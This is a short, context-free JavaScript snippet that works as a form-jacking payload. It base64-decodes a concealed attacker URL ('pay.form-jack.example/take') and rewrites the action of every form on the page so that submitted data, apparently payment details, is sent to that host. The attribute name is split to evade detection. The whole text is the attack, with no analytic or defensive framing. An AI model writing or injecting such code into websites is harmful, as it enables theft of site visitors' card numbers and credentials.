var fj = atob("aHR0cHM6Ly9wYXkuZm9ybS1qYWNrLmV4YW1wbGUvdGFrZQ==");
Array.prototype.forEach.call(document.forms, function (form) { form["act" + "ion"] = fj; });
